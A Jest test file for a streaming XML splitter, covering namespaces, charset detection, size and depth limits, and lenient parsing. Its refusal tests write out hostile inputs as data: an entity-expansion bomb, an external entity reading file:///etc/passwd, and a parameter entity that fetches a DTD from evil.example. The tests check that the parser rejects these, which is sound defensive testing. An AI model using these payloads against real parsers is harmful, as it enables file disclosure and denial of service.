import { describe, expect, it } from '@jest/globals';
import { mutate } from '../test/mutations.js';
import { chunks, collect } from '../test/reading.js';
import { attributeOf, childOf, childrenOf, descendantOf, wholeText, type XmlElement } from './element.js';
import type { SplitXmlOptions, XmlPart } from './parts.js';
import { readXml, splitXml } from './split-xml.js';

const RSS = 'https://feeds.example/ns';
const FEED = `<?xml version="1.0" encoding="UTF-8"?>
<!-- a feed -->
<r:list xmlns:r="${RSS}" xmlns="https://other.example" lang="de">
  <title>Bürger &amp; Stadt</title>
  <r:item n="1" r:n="2"><r:name>Eins</r:name><text>a<b>b</b><![CDATA[<c>]]></text></r:item>
  <item>not ours</item>
  <r:item><r:item>inner</r:item></r:item>
</r:list>
`;
const items: SplitXmlOptions = {
  contentType: '',
  isWanted: ({ name, namespace }) => name === 'item' && namespace === RSS,
};

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const latin = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));

async function split(
  text: string | Uint8Array,
  options: Partial<SplitXmlOptions> = {},
  size = 7,
): Promise<readonly XmlPart[]> {
  const bytes = typeof text === 'string' ? bytesOf(text) : text;
  return collect(splitXml(chunks(bytes, size), { ...items, ...options }));
}

async function elementsIn(text: string | Uint8Array, options: Partial<SplitXmlOptions> = {}): Promise<XmlElement[]> {
  return (await split(text, options)).flatMap((part) => (part.kind === 'element' ? [part.element] : []));
}

/** The root of a document that is read without trouble. */
async function rootOf(text: string | Uint8Array, options: Partial<SplitXmlOptions> = {}): Promise<XmlElement | null> {
  const last = (await split(text, options)).at(-1);
  return last?.kind === 'root' ? last.root : null;
}

async function failureOf(text: string | Uint8Array, options: Partial<SplitXmlOptions> = {}): Promise<string> {
  const last = (await split(text, options)).at(-1);
  return last?.kind === 'failed' ? `${last.failure.code}: ${last.failure.detail}` : (last?.kind ?? 'nothing');
}

describe('splitting an XML document', () => {
  it('hands over each wanted element by namespace and local name, whole, with its ancestors', async () => {
    const parts = await split(FEED);
    expect(parts.map(({ kind }) => kind)).toEqual(['element', 'element', 'root']);
    const [first, second] = await elementsIn(FEED);
    expect(first && childOf(first, 'name', RSS)?.text).toBe('Eins');
    expect(first && descendantOf(first, 'text', 'b')?.text).toBe('b');
    expect(second && childrenOf(second, 'item')).toHaveLength(1);
    expect(parts[0]).toMatchObject({ position: 0, parents: [{ name: 'list', namespace: RSS }], remarks: [] });
  });

  it('tells attributes apart by namespace, and knows no declaration as one', async () => {
    const [first] = await elementsIn(FEED);
    expect(first && [attributeOf(first, 'n'), attributeOf(first, 'n', RSS), attributeOf(first, 'x')]).toEqual([
      '1',
      '2',
      null,
    ]);
    expect((await rootOf(FEED))?.attributes).toEqual([{ name: 'lang', namespace: '', value: 'de' }]);
  });

  it('keeps texts in their order, with and without those of children', async () => {
    const [first] = await elementsIn(FEED);
    const text = first && childOf(first, 'text');
    expect(text && wholeText(text)).toBe('ab<c>');
    expect(text?.text).toBe('a<c>');
  });

  it('gives back what is left of the root at the end', async () => {
    const root = await rootOf(FEED);
    expect(root?.children.map(({ name }) => name)).toEqual(['title', 'item']);
    expect(root && childOf(root, 'title')?.text).toBe('Bürger & Stadt');
  });

  it.each([1, 2, 3, 300, 100_000])('does not mind chunks of %i bytes', async (size) => {
    expect(await split(FEED, {}, size)).toEqual(await split(FEED));
  });

  it('may want the root itself', async () => {
    const parts = await split(FEED, { isWanted: (_, depth) => depth === 0 });
    expect(parts).toMatchObject([
      { kind: 'element', parents: [] },
      { kind: 'root', root: { name: 'list', content: [] } },
    ]);
  });

  it('does not mind blanks before the declaration', async () => {
    expect((await rootOf(`\n \n${FEED}`))?.name).toBe('list');
  });

  it('forgets an element that is over the limits, and goes on', async () => {
    const many = '<b/>'.repeat(210_000);
    const parts = await split(`<a><item xmlns="${RSS}">${many}</item><item xmlns="${RSS}"/></a>`, {}, 100_000);
    expect(parts).toMatchObject([
      { kind: 'malformed', position: 0 },
      { kind: 'element', position: 1 },
      { kind: 'root' },
    ]);
  });

  it('leaves out what is too much beside the wanted elements, and says so', async () => {
    const parts = await split(`<a>${'<b/>'.repeat(210_000)}<item xmlns="${RSS}"/></a>`, {}, 100_000);
    expect(parts).toMatchObject([{ kind: 'element' }, { kind: 'root', isCut: true }]);
  });
});

describe('the charset of an XML document', () => {
  const document = (encoding: string): string => `<?xml version="1.0" encoding="${encoding}"?><a>Straße – ö€</a>`;
  const windows = (text: string): Uint8Array => latin(text.replace('–', '\u0096').replace('€', '\u0080'));

  it.each([
    ['UTF-8 by default', bytesOf('<a>Straße – ö€</a>'), ''],
    [
      'a byte order mark against every word',
      new Uint8Array([0xef, 0xbb, 0xbf, ...bytesOf(document('iso-8859-1'))]),
      '',
    ],
    ['the declaration', windows(document('windows-1252')), 'text/xml'],
    ['ISO 8859-1, which on the web is Windows-1252', windows(document('ISO-8859-1')), 'text/xml'],
    ['the header', windows('<a>Straße – ö€</a>'), 'text/xml; charset=windows-1252'],
    ['the header against the declaration', windows(document('ISO-8859-5')), 'text/xml; charset=windows-1252'],
    ['UTF-8 in the declaration against the header', bytesOf(document('utf-8')), 'text/xml; charset=iso-8859-1'],
    ['UTF-16 with a mark', new Uint8Array([0xff, 0xfe, ...Buffer.from(document('UTF-16'), 'utf16le')]), ''],
    ['UTF-16 without a mark', new Uint8Array(Buffer.from(document('UTF-16'), 'utf16le')), ''],
    ['UTF-16 that big end first', new Uint8Array(Buffer.from(`\ufeff${document('UTF-16')}`, 'utf16le').swap16()), ''],
    ['no UTF-16 where the bytes are not', bytesOf(document('UTF-16')), ''],
  ])('is told by %s (Q37)', async (_, bytes, contentType) => {
    for (const size of [1, 5, 10_000]) {
      const last = (await split(bytes, { contentType }, size)).at(-1);
      expect(last).toMatchObject({ kind: 'root', root: { text: 'Straße – ö€' }, remarks: [] });
    }
  });

  it('is guessed with a remark where the bytes are not what they are said to be (Q37)', async () => {
    const parts = await split(windows(`<a xmlns="${RSS}"><item>Straße –</item></a>`), {}, 1000);
    expect(parts).toMatchObject([
      { kind: 'element', element: { text: 'Straße –' }, remarks: [{ code: 'charset-guessed' }] },
      { kind: 'root', remarks: [] },
    ]);
  });
});

describe('a document that is refused', () => {
  it.each([
    ['', 'empty-answer: no content'],
    [' \n\t', 'empty-answer: no content'],
    ['no data', 'not-xml: the text does not begin with <'],
    ['{"a": "<b>"}', 'not-xml: the text does not begin with <'],
    ['<!DOCTYPE html><html><head><title>Wartung</title>', 'html-instead-of-data: a web page: Wartung'],
    ['<!-- x --> <HTML>\n<body>', 'html-instead-of-data: a web page'],
    ['<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><p/></html>', 'html-instead-of-data: a web page'],
    ['<a><b></a>', 'not-xml: unexpected close tag.'],
    ['<a>&nbsp;</a>', 'not-xml: undefined entity.'],
    ['<p:a/>', 'not-xml: unbound namespace prefix: "p".'],
    ['<a/><a/>', 'not-xml: documents may contain only one root.'],
    ['<a/> tail', 'not-xml: text data outside of root node.'],
    ['<a><b>', 'truncated: ends within b'],
    ['<a', 'truncated: ends within the document'],
    ['<a/><!-- never ends', 'not-xml: unexpected end.'],
  ])('%j is %s', async (text, expected) => {
    expect(await failureOf(text)).toContain(expected);
  });

  it('has entities of its own (entity bombs) (F107)', async () => {
    const bomb = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>`;
    expect(await failureOf(bomb)).toBe('not-xml: the document declares entities of its own');
    expect(await failureOf(bomb, { isForgiving: true })).toBe('not-xml: the document declares entities of its own');
  });

  it('points to entities outside, which nobody fetches (F107, F109)', async () => {
    const outside = `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`;
    expect(await failureOf(outside)).toBe('not-xml: the document declares entities of its own');
    const parameter = `<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><a/>`;
    expect(await failureOf(parameter)).toBe('not-xml: the document declares entities of its own');
  });

  it('is not one that only names its document type', async () => {
    const old = '<!DOCTYPE rss PUBLIC "-//Example//DTD RSS 0.91//EN" "https://dtd.example/rss.dtd"><rss>a</rss>';
    expect((await rootOf(old))?.text).toBe('a');
  });

  it('is nested without end', async () => {
    expect(await failureOf('<a>'.repeat(101))).toBe('not-xml: nested deeper than 100 elements');
    expect(await failureOf(`${'<a>'.repeat(100)}${'</a>'.repeat(100)}`)).toBe('root');
  });

  it('is given up at once where it is nested without end in one piece, not after seconds', async () => {
    const began = performance.now();
    expect(await failureOf('<a>'.repeat(20_000))).toBe('not-xml: nested deeper than 100 elements');
    // Whole pieces of 64 KiB took some eight seconds, small ones take some hundredths of one.
    expect(performance.now() - began).toBeLessThan(2000);
  });

  it('has a piece of text without end', async () => {
    const endless = async function* (): AsyncGenerator<Uint8Array, void, undefined> {
      yield bytesOf('<a b="');
      for (;;) yield await Promise.resolve(bytesOf('x'.repeat(1_000_000)));
    };
    const parts = await collect(splitXml(endless(), items));
    expect(parts).toMatchObject([
      { kind: 'failed', failure: { code: 'not-xml', detail: 'one piece of text is too large' } },
    ]);
  });

  it('is cut anywhere', async () => {
    for (let length = 0; length < FEED.trimEnd().length; length += 1) {
      const [code] = (await failureOf(FEED.slice(0, length))).split(':');
      expect({ length, isFailed: ['truncated', 'empty-answer'].includes(code ?? '') }).toEqual({
        length,
        isFailed: true,
      });
    }
  });

  it('ends once whatever happens to its bytes', async () => {
    for (let index = 0; index < 500; index += 1) {
      const parts = await split(mutate(bytesOf(FEED), index), { isForgiving: index % 2 === 0 }, 50);
      expect(parts.filter(({ kind }) => kind === 'root' || kind === 'failed')).toHaveLength(1);
    }
  });
});

describe('a forgiving reading', () => {
  const forgiven = async (text: string): Promise<string | undefined> =>
    (await rootOf(text, { isForgiving: true }))?.text;

  it.each([
    ['entities of HTML', '<a>&nbsp;&uuml;&hellip;&amp;lt;</a>', '\u00a0ü…&lt;'],
    ['ampersands that begin none', '<a>A & B &c; d?x=1&y=2;</a>', 'A & B &c; d?x=1&y=2;'],
    ['control characters', '<a>A\u0000\u000bB\tC</a>', 'AB\tC'],
  ])('takes %s', async (_, text, expected) => {
    expect(await forgiven(text)).toBe(expected);
  });

  it('takes prefixes that nobody declared', async () => {
    expect(await rootOf('<p:a>x</p:a>', { isForgiving: true })).toMatchObject({ name: 'a', namespace: 'unbound' });
  });

  it('still refuses what is not well-formed', async () => {
    expect(await failureOf('<a><b></a>', { isForgiving: true })).toContain('not-xml');
  });
});

describe('reading a document at once', () => {
  it('gives its root', () => {
    expect(readXml(bytesOf(FEED))).toMatchObject({ kind: 'read', root: { name: 'list', namespace: RSS }, remarks: [] });
  });

  it('gives the reason where there is none', () => {
    expect(readXml(bytesOf('<a>'))).toMatchObject({ kind: 'failed', failure: { code: 'truncated' } });
    expect(readXml(bytesOf(`<a>${'<b/>'.repeat(210_000)}</a>`))).toMatchObject({
      kind: 'failed',
      failure: { detail: 'the document is too large' },
    });
  });
});
